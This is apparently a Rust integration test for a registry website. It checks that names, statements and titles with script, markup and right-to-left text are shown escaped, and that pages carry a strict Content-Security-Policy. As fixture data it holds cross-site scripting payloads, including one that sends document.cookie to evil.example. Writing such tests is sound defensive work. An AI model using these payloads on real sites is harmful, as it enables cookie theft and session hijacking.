//! The public web pages against a real server holding hostile text: names,
//! statements and a commitment title with script, markup and right-to-left
//! text are shown escaped (and names bidi-isolated), every page carries the
//! strict Content-Security-Policy, filters and paging work without
//! JavaScript, unverified organizations are marked, the French page is
//! French, and errors are HTML pages with the API's statuses.

mod common;

use common::{org_key, request, sign, HttpReply};

const CSP: &str = "default-src 'none'; style-src 'self'; img-src 'self'; script-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";
const C: &str = "global-commitment-dts";

async fn get(addr: &str, path: &str) -> (HttpReply, String) {
    let (addr, path) = (addr.to_owned(), path.to_owned());
    let reply = tokio::task::spawn_blocking(move || common::http_fetch(&addr, &path))
        .await
        .unwrap();
    let body = String::from_utf8(reply.body.clone()).unwrap();
    (reply, body)
}

/// A page: 200 (or `status`), HTML, the CSP, and no markup from the log.
async fn page(addr: &str, path: &str, status: u16) -> String {
    let (reply, body) = get(addr, path).await;
    assert_eq!(reply.status, status, "{path}: {body}");
    assert_eq!(
        reply.header("content-type"),
        Some("text/html; charset=utf-8"),
        "{path}"
    );
    assert_eq!(reply.header("content-security-policy"), Some(CSP), "{path}");
    assert_eq!(reply.header("x-content-type-options"), Some("nosniff"));
    // Our only scripts: the verifier's configuration, a JSON data block
    // (never executed, and holding no `<`), and the verifier itself.
    let mut rest = body.clone();
    if let Some(start) = rest.find("<script type=\"application/json\" id=\"accord-config\">") {
        let end = start + rest[start..].find("</script>").expect("closed") + "</script>".len();
        let block = &rest[start..end];
        let json = &block[block.find('>').unwrap() + 1..block.len() - "</script>".len()];
        assert!(!json.contains('<'), "{path}: the data block holds no <");
        let config: serde_json::Value = serde_json::from_str(json).unwrap();
        assert!(
            config["vkey"].as_str().is_some_and(|k| k.contains('+')),
            "{path}"
        );
        rest.replace_range(start..end, "");
        let module = "<script type=\"module\" src=\"/assets/js/page.js\"></script>";
        assert_eq!(
            rest.matches(module).count(),
            1,
            "{path}: the verifier is loaded"
        );
        rest = rest.replace(module, "");
    }
    // Escaped text may spell anything; markup from the log may not appear.
    for raw in ["<script", "<img", "<b>", "<i>"] {
        assert!(
            !rest.contains(raw),
            "{path} contains {raw:?} unescaped:\n{body}"
        );
    }
    body
}

const HOSTILE: [&str; 4] = [
    "<script>alert(1)</script> Ministry",
    "\"><img src=x onerror=alert(1)> Agency",
    "<b>Bold</b> & Sons",
    "وزارة الاتصالات Ministry",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_show_the_registry_escaped_and_in_two_languages() {
    let (server, addr) = common::http_server(None).await;
    let mut c = server.client().await;
    // The commitment, with a title full of markup (the operator's text is
    // escaped like anyone's).
    let operator = common::operator_fixture();
    let mut registration = match common::registration(&operator) {
        accord::core::entry::Signed::Commitment { registration, .. } => registration,
        _ => unreachable!(),
    };
    registration.title = "<i>Global</i> Commitment <script>x()</script>".into();
    let signature =
        ed25519_dalek::Signer::sign(&operator, &registration.signed_message()).to_bytes();
    let signed = accord::core::entry::Signed::Commitment {
        registration,
        signature,
    };
    c.submit(common::with_token(&signed, common::ADMIN_TOKEN_FIXTURE))
        .await
        .unwrap();
    for (i, name) in HOSTILE.iter().enumerate() {
        let key = org_key(3000 + i as u32);
        let mut e = common::endorsement(&key, name);
        e.statement = Some(
            "<script>document.location='https://evil.example/'+document.cookie</script>".into(),
        );
        c.submit(request(&sign(&key, e))).await.unwrap();
    }
    server.submit(1..=3).await;

    // The index: the title escaped.
    let index = page(&addr, "/", 200).await;
    assert!(
        index.contains("&lt;i&gt;Global&lt;/i&gt; Commitment &lt;script&gt;x()&lt;/script&gt;"),
        "{index}"
    );
    assert!(index.contains(&format!("href=\"/commitments/{C}?lang=en\"")));

    // The listing: every hostile name shown as text, isolated, marked unverified.
    let list = page(&addr, &format!("/commitments/{C}"), 200).await;
    assert!(
        list.contains("<bdi>&lt;script&gt;alert(1)&lt;/script&gt; Ministry</bdi>"),
        "{list}"
    );
    assert!(list.contains("<bdi>&quot;&gt;&lt;img src=x onerror=alert(1)&gt; Agency</bdi>"));
    assert!(list.contains("<bdi>&lt;b&gt;Bold&lt;/b&gt; &amp; Sons</bdi>"));
    assert!(list.contains("<bdi>وزارة الاتصالات Ministry</bdi>"));
    assert_eq!(
        list.matches("class=\"unverified\">unverified<").count(),
        7,
        "{list}"
    );
    assert!(
        list.contains("<form method=\"get\""),
        "filters work without JavaScript"
    );

    // Counts by group and region: counted in the background, then shown as
    // charts (inline SVG) and tables, and as a total on the index.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let counted = loop {
        let list = page(&addr, &format!("/commitments/{C}"), 200).await;
        if !list.contains("being counted") {
            break list;
        }
        assert!(std::time::Instant::now() < deadline, "never counted");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    };
    assert!(
        counted.contains("<strong>7</strong> current signatories"),
        "{counted}"
    );
    assert_eq!(counted.matches("<svg role=\"img\"").count(), 2);
    assert!(counted.contains("<tr><th scope=\"row\">Government</th><td>7</td></tr>"));
    assert!(counted
        .contains("<tr><th scope=\"row\">Western European and Others Group</th><td>7</td></tr>"));
    assert!(counted.contains("<tr><th scope=\"row\">Academia</th><td>0</td></tr>"));
    assert!(page(&addr, "/", 200)
        .await
        .contains("<strong>7</strong> current signatories"));

    // Filters and the search, as plain GET parameters.
    let found = page(
        &addr,
        &format!("/commitments/{C}?name=bold&group=government&region=weog&country=NL"),
        200,
    )
    .await;
    assert_eq!(
        found.matches("<td><a href=\"/organizations/").count(),
        1,
        "one organization: {found}"
    );
    let none = page(&addr, &format!("/commitments/{C}?verified_only=true"), 200).await;
    assert!(none.contains("No signatory matches."));
    assert!(none.contains("name=\"verified_only\" value=\"true\" checked"));

    // An organization's page, by id (from the listing) and by key.
    let id = found.split("/organizations/").nth(1).unwrap()[..64].to_owned();
    let org = page(&addr, &format!("/organizations/{id}"), 200).await;
    assert!(
        org.contains("<h1><bdi>&lt;b&gt;Bold&lt;/b&gt; &amp; Sons</bdi>"),
        "{org}"
    );
    assert!(org.contains("Not verified: the name is only what the organization says of itself."));
    assert!(
        org.contains("href=\"/api/v1/entries/"),
        "links to its entries"
    );
    assert!(org.contains("test.example/log+"), "the log key to compare");
    // Its key history and its entries, decoded, with the name escaped there too.
    assert!(org.contains("<h2>Keys</h2>") && org.contains("first key, since entry"));
    assert!(
        org.contains("endorses <code>")
            && org.contains("<bdi>&lt;b&gt;Bold&lt;/b&gt; &amp; Sons</bdi></td>"),
        "{org}"
    );
    assert!(org.contains(" UTC</td>"), "when each entry was integrated");

    // French.
    let fr = page(&addr, &format!("/commitments/{C}?lang=fr"), 200).await;
    assert!(
        fr.contains("<html lang=\"fr\">")
            && fr.contains("Signataires")
            && fr.contains("non vérifiée")
    );
    assert!(fr.contains("hreflang=\"en\""), "a switch back to English");

    // Errors are pages too, with the API's statuses.
    let missing = page(&addr, &format!("/organizations/{}", "cd".repeat(32)), 404).await;
    assert!(missing.contains("no organization has"), "{missing}");
    page(&addr, "/organizations/not-hex", 400).await;
    page(&addr, "/commitments/no-such-commitment", 404).await;
    let bad = page(&addr, &format!("/commitments/{C}?group=%3Cscript%3E"), 400).await;
    assert!(
        bad.contains("&lt;script&gt;"),
        "the bad value is shown escaped: {bad}"
    );
    page(&addr, "/?lang=de", 400).await;

    // The style sheet is ours, served from the binary.
    let (css, body) = get(&addr, "/assets/style.css").await;
    assert_eq!(css.header("content-type"), Some("text/css; charset=utf-8"));
    assert!(body.contains("font-family"));
    // The verifier's scripts too, as JavaScript; nothing else under /assets/js.
    for name in [
        "page.js",
        "verify.js",
        "verify_entry.js",
        "verify_registry.js",
    ] {
        let (js, body) = get(&addr, &format!("/assets/js/{name}")).await;
        assert_eq!(js.status, 200, "{name}");
        assert_eq!(
            js.header("content-type"),
            Some("text/javascript; charset=utf-8")
        );
        assert!(body.contains("import") || body.contains("export"), "{name}");
    }
    assert_eq!(get(&addr, "/assets/js/other.js").await.0.status, 404);
    server.stop().await;
}
